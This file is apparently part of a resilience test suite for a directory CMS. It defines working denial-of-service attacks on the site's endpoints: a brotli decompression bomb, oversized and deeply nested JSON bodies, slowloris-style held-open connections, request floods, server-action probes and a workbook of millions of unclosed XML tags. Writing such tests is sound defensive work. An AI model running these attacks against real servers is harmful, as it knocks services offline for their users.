import { brotliCompressSync, constants } from 'node:zlib'
import { makeWorkbook } from '@directory/cms/flows/imports/testTables.ts'
import { actionIds } from '@directory/cms/server/testActionIds.ts'
import { type Attack, flood, headOf, json, nthOf, occupy, sendAttack } from './attackTools.ts'
import { longInputs } from './longInputs.ts'
import { otherDoors } from './otherDoors.ts'

/** Paths of calls with large bodies. */
const large = ['/api/saveFile', '/cms/api/contract/saveFile', '/cms/api/files', '/cms/api/entries', '/admin']
const open = [
  '/api/login',
  '/cms/api/contract/login',
  '/api/entryOfToken',
  '/cms/api/users/login',
  '/api/ask',
]

const packed = brotliCompressSync(Buffer.alloc(40_000_000, '['), {
  params: { [constants.BROTLI_PARAM_QUALITY]: 1 },
})
const almostAll = Buffer.alloc(990_000, ' ')
const crumbs = Buffer.from('1\r\n \r\n'.repeat(10_000))

/** Nobody attacks: what visitors wait then is the measure of all others. */
export const quiet = 'nobody'

/** Each attack runs alone, in its own order, from its own address. */
export const attacks: Record<string, Attack> = {
  ...longInputs,
  'sixty packed bytes, eight at once': (target) =>
    flood(target, 8, (n) =>
      sendAttack(target, {
        path: nthOf([...large, ...open], n),
        headers: { ...json, 'Content-Encoding': 'br' },
        body: packed,
      }),
    ),
  'plain bodies of 27 MB, thirty at once': (target) => {
    const body = Buffer.alloc(27_000_000, 'x')
    return flood(target, 30, (n) =>
      sendAttack(target, { path: nthOf([...large, ...open], n), headers: json, body }),
    )
  },
  'deep JSON, thirty at once': (target) => {
    const bodies = ['['.repeat(999_999), '{"a":'.repeat(199_999), `[${'[],'.repeat(333_000)}0]`]
    return flood(target, 30, (n) =>
      sendAttack(target, { path: nthOf(open, n), headers: json, body: nthOf(bodies, n) }),
    )
  },
  'bodies held open, 950': (target) =>
    occupy(target, 950, (socket, n) => {
      socket.write(headOf(nthOf(open, n), 'Content-Length: 1000000'))
      socket.write(almostAll)
    }),
  'bodies in crumbs, 250': (target) =>
    occupy(target, 250, (socket, n) => {
      const more = () => {
        if (target.isOver() || socket.destroyed) return
        if (socket.write(crumbs)) setTimeout(more, 50)
        else socket.once('drain', more)
      }
      socket.write(headOf(nthOf(open, n), 'Transfer-Encoding: chunked'))
      more()
    }),
  'slow senders, 1,000': (target) =>
    occupy(target, 1000, (socket, n) => {
      socket.write(n % 2 ? 'GET / HTTP/1.1\r\nHost: loc' : headOf(nthOf(open, n), 'Content-Length: 900000'))
    }),
  'server actions': (target) => {
    const names = ['form-state', 'constructor', 'table-state', 'render-document']
    const ids = actionIds()
    return flood(target, 8, (n) =>
      sendAttack(target, {
        path: nthOf(['/admin', '/admin/login', '/admin/create-first-user'], n),
        headers: { 'Content-Type': 'text/plain;charset=UTF-8', 'Next-Action': nthOf(ids, n) },
        body: JSON.stringify([{ name: nthOf(names, n), args: {} }]),
      }),
    )
  },
  'drawing pages, 300 at once': (target) =>
    flood(target, 300, (n) => sendAttack(target, { method: 'GET', path: `/?x=${n}-${Math.random()}` })),
  'drawing searches, 100 at once': (target) =>
    flood(target, 100, (n) => sendAttack(target, { method: 'GET', path: `/search?q=arzt%20${n}` })),
  'tiles, 100 at once': (target) =>
    flood(target, 100, (n) =>
      sendAttack(target, { method: 'GET', path: `/tiles/18/${(n * 7) % 262_144}/${(n * 13) % 262_144}.png` }),
    ),
  'requests whose answers nobody reads': (target) =>
    occupy(target, 250, (socket, n) => {
      socket.pause()
      const line = `GET ${nthOf(['/', '/api/allcategories', '/news', '/nothing'], n)} HTTP/1.1\r\nHost: localhost\r\n\r\n`
      socket.write(line.repeat(3000))
    }),
  'no session, 50 at once': (target) =>
    flood(target, 50, (n) => sendAttack(target, { path: nthOf(large, n), headers: json, body: '{}' })),
  'a workbook of 12 million open tags': async (target) => {
    const file = await makeWorkbook(`<worksheet><sheetData>${'<a>'.repeat(12_000_000)}`, '<sst/>')
    const head = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.xlsx"\r\n\r\n'
    const body = Buffer.concat([Buffer.from(head), file, Buffer.from('\r\n--x--\r\n')])
    const headers = {
      'Content-Type': 'multipart/form-data; boundary=x',
      Authorization: `Bearer ${target.token}`,
    }
    await flood(target, 2, () => sendAttack(target, { path: '/api/previewImport', headers, body }))
  },
  'places of which the geocoder tells without end': (target) =>
    flood(target, 50, (n) => {
      const query = `street=Weg%20${n}&plz=97421&city=Schweinfurt`
      return sendAttack(target, { method: 'GET', path: `/api/geocode?${query}` })
    }),
  ...otherDoors,
}
